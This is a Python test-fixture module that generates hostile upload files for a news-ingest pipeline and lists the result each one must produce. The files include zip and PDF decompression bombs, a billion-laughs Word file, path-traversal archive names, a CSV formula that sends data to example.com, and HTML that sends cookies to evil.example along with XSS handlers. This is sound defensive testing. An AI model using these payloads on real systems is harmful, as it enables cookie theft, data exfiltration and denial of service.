"""Hostile and edge-case files, built at test time (nothing here is copied from elsewhere).

Each builder returns the bytes of one file; :data:`CASES` names each case with the file name it
is uploaded under, its builder, the settings it runs with (environment variables) and what must
come of it. The tests in ``tests/analytics/test_hostile_files.py`` run every case through the
real upload path (``dashboard.data.read_uploads``) and the ingest pipeline.

Big files are generated in chunks (a zip bomb of 200 MB of zeros is written 1 MB at a time), so
building them stays fast and light on memory.
"""

from __future__ import annotations

import datetime as dt
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

MB = 1024 * 1024

PARAGRAPHS = (
    "The town council voted on Monday evening to build three new protected cycle lanes "
    "along the river, after a debate that lasted more than four hours.",
    "Supporters said the lanes would make the daily commute safer for children riding to "
    "school, while shop owners worried about the loss of parking spaces on the high street.",
    "Construction is expected to begin in the spring and to finish before the end of next "
    "year, according to the council's transport officer.",
)
TITLE = "Council approves new cycle lanes"
GOOD_TEXT = f"{TITLE}\n\n" + "\n\n".join(PARAGRAPHS) + "\n"

_NO_PUNCTUATION_WORDS = (
    *("river", "council", "lanes", "school", "parking", "street", "spring", "traffic"),
    *("market", "bridge", "station", "road", "evening", "debate", "budget", "transport"),
    *("officer", "children", "shop", "owners", "commute", "safety", "plan"),
)


# --- PDF --------------------------------------------------------------------------------------


def _pdf_string(text: str) -> bytes:
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(" + escaped.encode("latin-1") + b")"


def _pdf_file(objects: list[bytes], *, root: int = 1, info: int | None = None) -> bytes:
    """A PDF file of the given objects (numbered from 1), with a valid cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    trailer = b"trailer\n<< /Size %d /Root %d 0 R" % (len(objects) + 1, root)
    if info is not None:
        trailer += b" /Info %d 0 R" % info
    out.write(trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def _stream(content: bytes, *, compress: bool = False, extra: bytes = b"") -> bytes:
    if compress:
        content = zlib.compress(content, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def text_pdf(pages: list[list[str | None]], *, title: str | None = None) -> bytes:
    """A PDF whose pages show the given lines in Helvetica (``None``: an empty line)."""
    objects: list[bytes] = [b"", b""]  # 1: catalog, 2: page tree, filled in below
    objects.append(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
    )
    kids = []
    for lines in pages:
        ops = [b"BT", b"/F1 11 Tf", b"14 TL", b"72 720 Td"]
        ops += [b"T*" if line is None else _pdf_string(line) + b" Tj T*" for line in lines]
        ops.append(b"ET")
        objects.append(_stream(b"\n".join(ops)))
        content = len(objects)
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % content
        )
        kids.append(len(objects))
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R >>"
    refs = b" ".join(b"%d 0 R" % kid for kid in kids)
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (refs, len(kids))
    info = None
    if title is not None:
        objects.append(b"<< /Title " + _pdf_string(title) + b" /Producer (tests) >>")
        info = len(objects)
    return _pdf_file(objects, info=info)


def two_page_pdf() -> bytes:
    """Two pages of real text, the title in the metadata, paragraphs wrapped over lines."""
    first = [
        TITLE,
        None,
        "The town council voted on Monday evening to build three new protected",
        "cycle lanes along the river, after a debate that lasted four hours.",
        None,
        "Supporters said the lanes would make the daily commute safer for children",
        "riding to school, while shop owners worried about parking spaces.",
    ]
    second = [
        "Construction is expected to begin in the spring and to finish before the",
        "end of next year, according to the council's transport officer.",
    ]
    return text_pdf([first, second], title=TITLE)


def scanned_pdf() -> bytes:
    """A page that only draws an image (as a scanner makes): no text to extract."""
    pixels = bytes(range(0, 256, 16)) * 16
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>",
        _stream(b"q 500 0 0 700 56 46 cm /Im1 Do Q"),
        _stream(
            pixels,
            extra=b" /Type /XObject /Subtype /Image /Width 16 /Height 16 "
            b"/ColorSpace /DeviceGray /BitsPerComponent 8",
        ),
    ]
    return _pdf_file(objects)


def encrypted_pdf(*, user_password: str = "secret") -> bytes:
    """The two-page PDF encrypted with RC4 (pypdf writes it; no extra library needed)."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(two_page_pdf())))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def slow_pdf(n_operations: int) -> bytes:
    """One page whose compressed content stream shows one letter ``n_operations`` times.

    A few kilobytes on disk; pypdf takes about 20 µs and 700 bytes of memory per operation
    (300,000 of them: 5 s and 200 MB), until its own limit of tokens per stream stops it.
    """
    chunk = b"(a) Tj " * 10_000
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(b"BT /F1 1 Tf 72 720 Td ")]
    parts += [compressor.compress(chunk) for _ in range(n_operations // 10_000)]
    parts.append(compressor.compress(b"ET") + compressor.flush())
    content = b"".join(parts)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content)
        + content
        + b"\nendstream",
    ]
    return _pdf_file(objects)


def pdf_stream_bomb(size_mb: int = 100) -> bytes:
    """A page whose content stream inflates from about 100 KB to ``size_mb`` MB of spaces."""
    compressor = zlib.compressobj(9)
    block = b" " * MB
    parts = [compressor.compress(block) for _ in range(size_mb)]
    content = b"".join(parts) + compressor.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content)
        + content
        + b"\nendstream",
    ]
    return _pdf_file(objects)


def looping_pdf() -> bytes:
    """A page tree whose node lists itself as its own kid (an endless loop for a naive reader)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 2 0 R] /Count 2 >>",
    ]
    return _pdf_file(objects)


def damaged_pdf() -> bytes:
    """A PDF header followed by random bytes."""
    return b"%PDF-1.7\n" + random.Random(7).randbytes(4096)


# --- Word documents ---------------------------------------------------------------------------


def docx_document(
    *,
    heading: str | None = TITLE,
    paragraphs: tuple[str, ...] = PARAGRAPHS,
    core_title: str = "",
    created: dt.datetime | None = None,
) -> bytes:
    """A Word document made with python-docx: a Title-styled heading and paragraphs."""
    import docx

    document = docx.Document()
    if heading is not None:
        document.add_heading(heading, level=0)
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    document.core_properties.title = core_title
    if created is not None:
        document.core_properties.created = created
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _replace_in_zip(data: bytes, replacements: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, replacements.get(info.filename, source.read(info)))
    return out.getvalue()


def docx_billion_laughs() -> bytes:
    """A Word document whose body declares nested XML entities (the "billion laughs")."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    body = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"<!DOCTYPE w:document [{''.join(entities)}]>\n"
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Laughs: &lol9;</w:t></w:r></w:p>"
        f"<w:p><w:r><w:t>{PARAGRAPHS[0]}</w:t></w:r></w:p></w:body></w:document>"
    )
    return _replace_in_zip(docx_document(), {"word/document.xml": body.encode()})


def docx_part_bomb(size_mb: int = 300) -> bytes:
    """A Word document with an extra part of ``size_mb`` MB of zeros (a bomb inside a .docx)."""
    out = io.BytesIO(docx_document())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        _write_zeros(archive, "word/media/zeros.bin", size_mb)
    return out.getvalue()


# --- ZIP archives -----------------------------------------------------------------------------


def zip_of(
    entries: Mapping[str, bytes] | list[tuple[str, bytes]],
    *,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        items = entries.items() if isinstance(entries, Mapping) else entries
        for name, data in items:
            archive.writestr(name, data)
    return out.getvalue()


def _write_zeros(archive: zipfile.ZipFile, name: str, size_mb: int) -> None:
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    block = bytes(MB)
    with archive.open(info, "w", force_zip64=size_mb >= 2048) as member:
        for _ in range(size_mb):
            member.write(block)


def zip_bomb(size_mb: int = 200) -> bytes:
    """One entry of ``size_mb`` MB of zeros, about 200 KB compressed (a ratio near 1,000)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        _write_zeros(archive, "zeros.txt", size_mb)
    return out.getvalue()


def zip_many_entries(count: int = 501) -> bytes:
    return zip_of({f"article-{number:04}.txt": GOOD_TEXT.encode() for number in range(count)})


def zip_large_total(n_entries: int = 25, entry_mb: int = 9) -> bytes:
    """Entries of text that compress only a little, adding up to more than 200 MB in total."""
    rng = random.Random(3)
    words = [
        "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(2, 9)))
        for _ in range(5000)
    ]
    text = " ".join(rng.choice(words) for _ in range(entry_mb * MB // 6)).encode()[: entry_mb * MB]
    return zip_of({f"big-{number:02}.txt": text for number in range(n_entries)})


def nested_zip(depth: int) -> bytes:
    """A good article inside ``depth`` archives (``depth`` 1: an archive of one article)."""
    data = zip_of({"story.txt": GOOD_TEXT.encode()})
    for level in range(2, depth + 1):
        data = zip_of({f"level{level - 1}.zip": data})
    return data


def _patch_sizes(data: bytes, *, file_size: int, crc: int | None = None) -> bytes:
    """Every local header and central directory record of ``data`` claiming ``file_size``."""
    patched = bytearray(data)
    position = 0
    while (position := patched.find(b"PK\x03\x04", position)) >= 0:
        struct.pack_into("<L", patched, position + 22, file_size)
        if crc is not None:
            struct.pack_into("<L", patched, position + 14, crc)
        position += 4
    position = 0
    while (position := patched.find(b"PK\x01\x02", position)) >= 0:
        struct.pack_into("<L", patched, position + 24, file_size)
        if crc is not None:
            struct.pack_into("<L", patched, position + 16, crc)
        position += 4
    return bytes(patched)


def zip_lying_small() -> bytes:
    """A 200 MB entry of zeros whose headers claim 1,000 bytes (and the CRC of those bytes)."""
    return _patch_sizes(zip_bomb(200), file_size=1000, crc=zlib.crc32(bytes(1000)))


def zip_lying_large() -> bytes:
    """A small article whose headers claim it expands to 3 GB."""
    return _patch_sizes(zip_of({"story.txt": GOOD_TEXT.encode()}), file_size=3 * 1024 * MB)


def zip_encrypted_entry() -> bytes:
    """An archive whose only entry is marked encrypted (the general purpose flag's bit 0)."""
    patched = bytearray(zip_of({"secret.txt": GOOD_TEXT.encode()}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = patched.find(signature)
        flags = struct.unpack_from("<H", patched, position + offset)[0]
        struct.pack_into("<H", patched, position + offset, flags | 1)
    return bytes(patched)


def zip_mixed() -> bytes:
    """Articles in several formats, junk a Mac or a hostile sender adds, and bad entries."""
    good_csv = f'title,text\n{TITLE},"{PARAGRAPHS[0]}"\nSecond,"{PARAGRAPHS[1]}"\n'
    return zip_of(
        [
            ("batch/story.txt", GOOD_TEXT.encode()),
            ("batch/page.html", _html_page().encode()),
            ("batch/rows.csv", good_csv.encode()),
            ("batch/report.pdf", two_page_pdf()),
            ("batch/letter.docx", docx_document(heading="A letter from the council")),
            ("batch/photo.txt", png()),
            ("batch/empty.txt", b""),
            ("../../etc/escape.txt", b"Escape\n\nNothing is extracted."),
            ("/absolute/path.txt", b"Absolute\n\nStill read in memory."),
            ("bidi/\u202etxt.exe", b"Bidi\n\nA right-to-left override in the name."),
            ("__MACOSX/batch/._story.txt", b"\x00\x05\x16\x07 resource fork"),
            ("batch/.DS_Store", b"\x00\x00\x00\x01Bud1"),
            ("batch/", b""),
        ]
    )


def zip_bzip2() -> bytes:
    return zip_of({"story.txt": GOOD_TEXT.encode()}, compression=zipfile.ZIP_BZIP2)


def zip_only_hidden() -> bytes:
    return zip_of({"__MACOSX/._a.txt": b"x", ".hidden.txt": b"Hidden\n\ntext"})


def odt_file() -> bytes:
    """An OpenDocument text: a ZIP whose first entry, ``mimetype``, names the kind."""
    return zip_of(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b"<office:document-content/>"),
        ],
        compression=zipfile.ZIP_STORED,
    )


def xlsx_file() -> bytes:
    return zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})


# --- images and text --------------------------------------------------------------------------


def png() -> bytes:
    """A valid 1 × 1 PNG image."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">L", len(body))
            + kind
            + body
            + struct.pack(">L", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    header = struct.pack(">LLBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x7f"))
        + chunk(b"IEND", b"")
    )


def random_bytes() -> bytes:
    return random.Random(42).randbytes(64 * 1024)


def no_punctuation_text() -> bytes:
    rng = random.Random(5)
    words = [rng.choice(_NO_PUNCTUATION_WORDS) for _ in range(300)]
    lines = [" ".join(words[i : i + 12]) for i in range(0, len(words), 12)]
    return ("Council notes without full stops\n\n" + "\n".join(lines) + "\n").encode()


def single_line(n_bytes: int) -> bytes:
    """One line of words of exactly ``n_bytes`` bytes, no newline, no full stop."""
    unit = b"council lanes river school parking "
    return (unit * (n_bytes // len(unit) + 1))[:n_bytes]


def formula_csv() -> bytes:
    title = '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")'
    escaped = title.replace('"', '""')
    return f'title,text\n"{escaped}","{PARAGRAPHS[0]} {PARAGRAPHS[1]}"\n'.encode()


def _html_page(extra: str = "") -> str:
    body = "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS)
    return (
        f"<!doctype html><html lang='en'><head><title>{TITLE}</title></head><body>"
        f"<article><h1>{TITLE}</h1>{extra}{body}</article></body></html>"
    )


def script_html() -> bytes:
    extra = (
        "<script>document.location='http://evil.example/?c='+document.cookie</script>"
        "<img src=x onerror=\"alert('xss')\">"
        "<p onmouseover=\"alert('hover')\">Residents can comment until the end of the month.</p>"
    )
    return _html_page(extra).encode()


def deep_html(depth: int = 100_000) -> bytes:
    return ("<html><body>" + "<div>" * depth + "Deep text" + "</div>" * depth).encode()


def deep_json_line(depth: int = 100_000) -> bytes:
    return b'{"text": ' + b"[" * depth + b"]" * depth + b"}\n"


# --- the cases --------------------------------------------------------------------------------


Rows = tuple[tuple[str, str, str], ...]


@dataclass(frozen=True)
class Case:
    """One hostile or edge file and what must come of uploading it.

    ``rows`` are the expected ``(name, status, reason)`` of each result of the ingest, in
    order; ``status`` is ``"added"``, ``"already present"`` or ``"rejected"`` (and the reason
    is the exact message of a rejection, or ``""``). ``env`` are settings to run it with.
    """

    id: str
    name: str
    build: Callable[[], bytes]
    rows: Rows | Callable[[bytes], Rows]
    env: Mapping[str, str] = field(default_factory=dict)

    def expected(self, data: bytes) -> Rows:
        """The expected rows (some messages are computed from the file's declared sizes)."""
        return self.rows(data) if callable(self.rows) else self.rows


SUPPORTED = (
    "supported types are plain text (.txt, .text, .md, .markdown), HTML (.html, .htm), "
    "CSV (.csv, .tsv), JSON Lines (.jsonl, .ndjson), PDF (.pdf), Word (.docx) and "
    "ZIP archives of these (.zip)"
)
PNG_MESSAGE = f"this file is not a supported type (it looks like a PNG image); {SUPPORTED}"


def _added(name: str) -> tuple[str, str, str]:
    return (name, "added", "")


def _rejected(name: str, reason: str) -> tuple[str, str, str]:
    return (name, "rejected", reason)


def _ratio_message(data: bytes, archive: str, member: str) -> str:
    """The zip-bomb message for ``member``, from the sizes its archive declares."""
    with zipfile.ZipFile(io.BytesIO(data)) as opened:
        info = opened.getinfo(member)
    size, compressed = info.file_size, info.compress_size

    def megabytes(value: int) -> str:
        if value >= MB / 10:
            return f"{value / MB:.1f} MB"
        return f"{value / 1024:.1f} KB" if value >= 1024 else f"{value} bytes"

    return (
        f"{archive}/{member} expands {size / compressed:,.0f} times when decompressed "
        f"({megabytes(compressed)} to {megabytes(size)}), like a zip bomb; the limit is 100 "
        "times (NEWS_MAX_COMPRESSION_RATIO)"
    )


def zip_nested_entries() -> bytes:
    """Two entries, one an archive of two more: four entries in all."""
    inner = zip_of({"a.txt": GOOD_TEXT.encode(), "b.txt": b"Second\n\nAnother story."})
    return zip_of({"inner.zip": inner, "c.txt": b"Third\n\nA third story."})


def damaged_zip() -> bytes:
    return b"PK\x03\x04" + random.Random(11).randbytes(2048)


def markup_only() -> bytes:
    return b"<div><span></span></div>\n"


def _mixed_rows() -> Rows:
    return (
        _added("mixed.zip/batch/story.txt"),
        ("mixed.zip/batch/page.html", "already present", ""),
        _added("mixed.zip/batch/rows.csv#row 1"),
        _added("mixed.zip/batch/rows.csv#row 2"),
        _added("mixed.zip/batch/report.pdf"),
        _added("mixed.zip/batch/letter.docx"),
        _rejected("mixed.zip/batch/photo.txt", PNG_MESSAGE),
        _rejected("mixed.zip/batch/empty.txt", "the file is empty"),
        _added("mixed.zip/etc/escape.txt"),
        _added("mixed.zip/absolute/path.txt"),
        _rejected(
            "mixed.zip/bidi/?txt.exe",
            f"this file is not a supported type (.exe files cannot be read); {SUPPORTED}",
        ),
    )


DEPTH_1 = {"NEWS_MAX_ARCHIVE_DEPTH": "1"}
NO_RATIO = {"NEWS_MAX_COMPRESSION_RATIO": "100000"}

CASES: tuple[Case, ...] = (
    # --- ZIP archives
    Case(
        "zip-bomb",
        "bomb.zip",
        zip_bomb,
        lambda data: (_rejected("bomb.zip", _ratio_message(data, "bomb.zip", "zeros.txt")),),
    ),
    Case(
        "zip-bomb-without-ratio-cap",
        "bomb.zip",
        zip_bomb,
        (
            _rejected(
                "bomb.zip/zeros.txt",
                "the file is 200.0 MB; the limit is 50 MB (NEWS_MAX_UPLOAD_MB)",
            ),
        ),
        env=NO_RATIO,
    ),
    Case(
        "zip-bomb-over-total-cap",
        "bomb.zip",
        zip_bomb,
        (
            _rejected(
                "bomb.zip",
                "the archive expands to 200.0 MB when decompressed; the limit is 100 MB in "
                "total (NEWS_MAX_UNCOMPRESSED_MB)",
            ),
        ),
        env={**NO_RATIO, "NEWS_MAX_UNCOMPRESSED_MB": "100"},
    ),
    Case(
        "zip-too-many-entries",
        "many.zip",
        zip_many_entries,
        (
            _rejected(
                "many.zip",
                "the archive has 501 entries; the limit is 500 (NEWS_MAX_ARCHIVE_ENTRIES)",
            ),
        ),
    ),
    Case(
        "zip-too-many-entries-nested",
        "nested.zip",
        zip_nested_entries,
        (
            _rejected(
                "nested.zip",
                "the archive has 4 entries, nested archives included; the limit is 3 "
                "(NEWS_MAX_ARCHIVE_ENTRIES)",
            ),
        ),
        env={"NEWS_MAX_ARCHIVE_ENTRIES": "3"},
    ),
    Case(
        "zip-nested-2-deep",
        "nested.zip",
        lambda: nested_zip(2),
        (_added("nested.zip/level1.zip/story.txt"),),
    ),
    Case(
        "zip-nested-3-deep",
        "nested.zip",
        lambda: nested_zip(3),
        (
            _rejected(
                "nested.zip/level2.zip/level1.zip",
                "this ZIP archive is nested 3 levels deep; the limit is 2 (NEWS_MAX_ARCHIVE_DEPTH)",
            ),
        ),
    ),
    Case(
        "zip-nested-with-depth-1",
        "nested.zip",
        lambda: nested_zip(2),
        (
            _rejected(
                "nested.zip/level1.zip",
                "this ZIP archive is nested 2 levels deep; the limit is 1 (NEWS_MAX_ARCHIVE_DEPTH)",
            ),
        ),
        env=DEPTH_1,
    ),
    Case(
        "zip-declares-less-than-it-holds",
        "lying.zip",
        zip_lying_small,
        (_rejected("lying.zip/zeros.txt", "looks like a binary file, not text"),),
    ),
    Case(
        "zip-declares-more-than-it-holds",
        "lying.zip",
        zip_lying_large,
        lambda data: (_rejected("lying.zip", _ratio_message(data, "lying.zip", "story.txt")),),
    ),
    Case(
        "zip-encrypted-entry",
        "secret.zip",
        zip_encrypted_entry,
        (
            _rejected(
                "secret.zip/secret.txt", "the file is encrypted (password-protected) in the archive"
            ),
        ),
    ),
    Case(
        "zip-bzip2-entry",
        "bz.zip",
        zip_bzip2,
        (
            _rejected(
                "bz.zip/story.txt",
                "the file is compressed with BZIP2, which is not read; make the archive with "
                "standard (deflate) compression",
            ),
        ),
    ),
    Case("zip-mixed-entries", "mixed.zip", zip_mixed, _mixed_rows()),
    Case(
        "zip-only-hidden-files",
        "hidden.zip",
        zip_only_hidden,
        (_rejected("hidden.zip", "the archive has no files to read"),),
    ),
    Case(
        "zip-damaged",
        "broken.zip",
        damaged_zip,
        (
            _rejected(
                "broken.zip", "this ZIP file is damaged and cannot be read (File is not a zip file)"
            ),
        ),
    ),
    Case(
        "odt",
        "letter.odt",
        odt_file,
        (
            _rejected(
                "letter.odt",
                f"this file is not a supported type (it is an OpenDocument text); {SUPPORTED}",
            ),
        ),
    ),
    Case(
        "xlsx-named-zip",
        "figures.zip",
        xlsx_file,
        (
            _rejected(
                "figures.zip",
                f"this file is not a supported type (it is an Excel workbook); {SUPPORTED}",
            ),
        ),
    ),
    Case(
        "zip-named-docx",
        "fake.docx",
        lambda: zip_of({"story.txt": GOOD_TEXT.encode()}),
        (_rejected("fake.docx", "this file is named .docx but it is not a Word document"),),
    ),
    # --- Word documents
    Case("docx", "council.docx", docx_document, (_added("council.docx"),)),
    Case("docx-named-zip", "council.zip", docx_document, (_added("council.zip"),)),
    Case(
        "docx-billion-laughs",
        "laughs.docx",
        docx_billion_laughs,
        (
            _rejected(
                "laughs.docx",
                "this Word document is damaged and cannot be read (its XML could not be parsed)",
            ),
        ),
    ),
    Case(
        "docx-with-zip-bomb-part",
        "bomb.docx",
        docx_part_bomb,
        lambda data: (
            _rejected("bomb.docx", _ratio_message(data, "bomb.docx", "word/media/zeros.bin")),
        ),
    ),
    Case(
        "docx-named-but-text",
        "letter.docx",
        lambda: GOOD_TEXT.encode(),
        (_rejected("letter.docx", "this file is named .docx but it is not a Word document"),),
    ),
    # --- PDF
    Case("pdf-two-pages", "report.pdf", two_page_pdf, (_added("report.pdf"),)),
    Case("pdf-named-txt", "report.txt", two_page_pdf, (_added("report.txt"),)),
    Case(
        "pdf-scanned",
        "scan.pdf",
        scanned_pdf,
        (_rejected("scan.pdf", "no text found in the PDF (it may be scanned images)"),),
    ),
    Case(
        "pdf-encrypted",
        "secret.pdf",
        encrypted_pdf,
        (
            _rejected(
                "secret.pdf", "the PDF is protected by a password, so its text cannot be read"
            ),
        ),
    ),
    Case(
        "pdf-encrypted-without-user-password",
        "restricted.pdf",
        lambda: encrypted_pdf(user_password=""),
        (_added("restricted.pdf"),),
    ),
    Case(
        "pdf-looping-page-tree",
        "loop.pdf",
        looping_pdf,
        (
            _rejected(
                "loop.pdf",
                "this PDF file is damaged and cannot be read (Detected cyclic page references.)",
            ),
        ),
    ),
    Case(
        "pdf-damaged",
        "damaged.pdf",
        damaged_pdf,
        (
            _rejected(
                "damaged.pdf",
                "this PDF file is damaged and cannot be read (Stream has ended unexpectedly)",
            ),
        ),
    ),
    Case(
        "pdf-stream-bomb",
        "inflate.pdf",
        pdf_stream_bomb,
        (
            _rejected(
                "inflate.pdf",
                "no text could be read from the PDF: page 1 is beyond the PDF reader's safety "
                "limits",
            ),
        ),
    ),
    Case(
        "pdf-slow-past-time-limit",
        "slow.pdf",
        lambda: slow_pdf(1_000_000),
        (
            _rejected(
                "slow.pdf", "parsing took longer than 2 s and was stopped (NEWS_PARSE_TIMEOUT_S)"
            ),
        ),
        env={"NEWS_PARSE_TIMEOUT_S": "2"},
    ),
    Case(
        "pdf-past-memory-limit",
        "hungry.pdf",
        lambda: slow_pdf(300_000),
        (
            _rejected(
                "hungry.pdf",
                "parsing needed more than 150 MB of memory and was stopped (NEWS_PARSE_MEMORY_MB)",
            ),
        ),
        env={"NEWS_PARSE_MEMORY_MB": "150"},
    ),
    Case(
        "pdf-named-but-text",
        "report.pdf",
        lambda: GOOD_TEXT.encode(),
        (_rejected("report.pdf", "this file is named .pdf but it is not a PDF file"),),
    ),
    # --- images and binary data
    Case("png-named-txt", "photo.txt", png, (_rejected("photo.txt", PNG_MESSAGE),)),
    Case("png-named-pdf", "photo.pdf", png, (_rejected("photo.pdf", PNG_MESSAGE),)),
    Case(
        "random-bytes",
        "random.txt",
        random_bytes,
        (_rejected("random.txt", "looks like a binary file, not text"),),
    ),
    # --- text
    Case("empty", "empty.txt", lambda: b"", (_rejected("empty.txt", "the file is empty"),)),
    Case(
        "whitespace-only",
        "blank.txt",
        lambda: b" \t\r\n\n   \n",
        (_rejected("blank.txt", "the file is empty"),),
    ),
    Case(
        "byte-order-mark-only",
        "bom.txt",
        lambda: b"\xef\xbb\xbf\r\n",
        (_rejected("bom.txt", "the file is empty"),),
    ),
    Case(
        "markup-only-html",
        "markup.html",
        markup_only,
        (_rejected("markup.html", "no article text found in the HTML page"),),
    ),
    Case(
        "markup-only-txt",
        "markup.txt",
        markup_only,
        (_rejected("markup.txt", "no article text found, only markup"),),
    ),
    Case(
        "punctuation-only",
        "dots.txt",
        lambda: b"!!! ???\n\n... ---\n",
        (_rejected("dots.txt", "no article text found, no letters or digits"),),
    ),
    Case("no-sentence-punctuation", "notes.txt", no_punctuation_text, (_added("notes.txt"),)),
    Case(
        "single-line-50-mb",
        "line.txt",
        lambda: single_line(50 * MB),
        (
            _rejected(
                "line.txt",
                "the article has 52,428,800 characters; the limit is 1,000,000 "
                "(NEWS_MAX_ARTICLE_CHARS)",
            ),
        ),
    ),
    Case(
        "single-line-at-a-smaller-cap",
        "line.txt",
        lambda: single_line(20_000),
        (_added("line.txt"),),
        env={"NEWS_MAX_ARTICLE_CHARS": "20000"},
    ),
    Case(
        "single-line-over-a-smaller-cap",
        "line.txt",
        lambda: single_line(20_001),
        (
            _rejected(
                "line.txt",
                "the article has 20,001 characters; the limit is 20,000 (NEWS_MAX_ARTICLE_CHARS)",
            ),
        ),
        env={"NEWS_MAX_ARTICLE_CHARS": "20000"},
    ),
    Case(
        "file-over-size-cap",
        "big.txt",
        lambda: single_line(3 * MB // 2),
        (_rejected("big.txt", "the file is 1.5 MB; the limit is 1 MB (NEWS_MAX_UPLOAD_MB)"),),
        env={"NEWS_MAX_UPLOAD_MB": "1"},
    ),
    Case("csv-formula-title", "formula.csv", formula_csv, (_added("formula.csv#row 1"),)),
    Case("html-script-and-handlers", "page.html", script_html, (_added("page.html"),)),
    Case(
        "html-nested-100000-deep",
        "deep.html",
        deep_html,
        (_rejected("deep.html", "no article text found in the HTML page"),),
    ),
    Case(
        "jsonl-nested-100000-deep",
        "deep.jsonl",
        deep_json_line,
        (_rejected("deep.jsonl", "line 1 is not valid JSON"),),
    ),
)
"""Every hostile or edge file and what must come of it."""
